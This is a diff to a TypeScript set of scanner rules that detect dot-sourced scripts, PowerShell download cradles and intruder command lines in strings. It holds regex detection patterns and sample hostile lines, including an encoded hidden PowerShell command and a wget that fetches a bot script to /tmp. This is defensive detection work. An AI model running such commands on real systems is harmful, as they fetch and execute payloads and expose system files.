@@ -118,7 +118,7 @@ export const COMMAND_RULES: readonly Rule[] = [
     id: 'command-dot-source',
     why: 'A script that the shell reads into itself: `; . ./x`.',
     reach: 'parameter',
-    except: ['string', 'header', 'path'],
+    except: ['header', 'path'],
     literals: '.␣',
     test: /(?:[;|&`]|\$\()\s{0,4}\.\s{1,4}[\w~/$.]/,
     finds: '; . ./a',
@@ -146,8 +146,8 @@ export const COMMAND_RULES: readonly Rule[] = [
     id: 'command-powershell-in-string',
     why: 'PowerShell that downloads or decodes, in a string.',
     reach: 'field',
-    literals: 'powershell downloadstring invoke-expression iex',
-    test: /\bpowershell(?:\.exe)?\s{1,8}[^\n]{0,80}-e(?:nc|ncodedcommand)?\s{1,8}[A-Za-z0-9+/=]{16,}|\b(?:iex|invoke-expression)\s{0,8}\(?\s{0,8}\(?\s{0,8}new-object\b|\.downloadstring\s{0,8}\(\s{0,8}['"]https?:/i,
+    literals: 'powershell downloadstring invoke- iex iwr',
+    test: /\bpowershell(?:\.exe)?\s{1,8}[^\n]{0,80}-e(?:nc|ncodedcommand)?\s{1,8}[A-Za-z0-9+/=]{16,}|\b(?:iex|invoke-expression)\s{0,8}\(?\s{0,8}\(?\s{0,8}new-object\b|\b(?:iwr|invoke-(?:webrequest|restmethod))\s{1,8}(?:-uri\s{1,8})?['"]?https?:|\.downloadstring\s{0,8}\(\s{0,8}['"]https?:/i,
     finds: 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A',
     leaves: 'open powershell and look'
   },
@@ -166,8 +166,8 @@ export const COMMAND_RULES: readonly Rule[] = [
     id: 'command-line-in-string',
     why: 'A string of a message that is a command line only an intruder types.',
     reach: 'string',
-    literals: '/etc/ bash␣-i /bin/ nc␣ rm␣-rf␣/ whoami wget␣ curl␣',
-    test: /^["'\s]{0,4}(?:(?:cat|less|more|head|tail|nl|tac|cp|strings)\s+\/(?:etc|proc|root|var\/log)\/|(?:ba|z|k)?sh\s+-i\b|\/(?:usr\/)?bin\/(?:\w{0,3}sh|cat|nc|id|ls|wget|curl|perl|python\d?)\b(?:\s+-|\s+\/|$)|nc(?:at)?\s+(?:-[a-z]+\s+)*[\w.]+\s+\d{2,5}(?:\s+-e|\s*$)|rm\s+-rf\s+\/(?:\s|\*|$)|whoami$|(?:wget|curl)\s[^|;&]{4,128}(?:[|;]\s*(?:ba)?sh|&&\s*(?:chmod|sh|bash)|-O\s*\/tmp))/,
+    literals: '/etc/ bash␣-i /bin/ nc␣ rm␣-rf␣/ whoami wget␣ curl␣ cat␣ zip␣ zcat␣ tac␣ less␣ head␣ tail␣ time␣ trace␣',
+    test: /^["'\s]{0,4}(?:(?:cat|tac|less|head|tail|(?:zst|[zb]|bz|xz|lz)cat|g(?:un)?zip)\s+(?:-\w+\s+){0,3}\/\w+\/[\w./-]+\s*$|(?:time|[sl]trace)\s+(?:sh\s+-c\s+)?(?:who|whoami|id|curl|wget|nc|bsdtar|uname)\b|(?:cat|less|more|head|tail|nl|tac|cp|strings)\s+\/(?:etc|proc|root|var\/log)\/|(?:ba|z|k)?sh\s+-i\b|\/(?:usr\/)?bin\/(?:\w{0,3}sh|cat|nc|id|ls|wget|curl|perl|python\d?|g(?:un)?zip|[zbx]z?cat)\b(?:\s+-|\s+\/|$)|nc(?:at)?\s+(?:-[a-z]+\s+)*[\w.]+\s+\d{2,5}(?:\s+-e|\s*$)|rm\s+-rf\s+\/(?:\s|\*|$)|whoami$|(?:wget|curl)\s[^|;&]{4,128}(?:[|;]\s*(?:ba)?sh|&&\s*(?:chmod|sh|bash)|-O\s*\/tmp))/,
     finds: 'wget http://192.0.2.6/bot.sh -O /tmp/b',
     leaves:
       '#!/usr/bin/env bash\nset -euo pipefail\n\nfor f in /etc/*.conf; do\n  cat "$f" | grep -v "^#" || true\ndone\ncurl -fsS "https://example.com/$(uname -s)" -o /tmp/x; chmod +x /tmp/x\n'
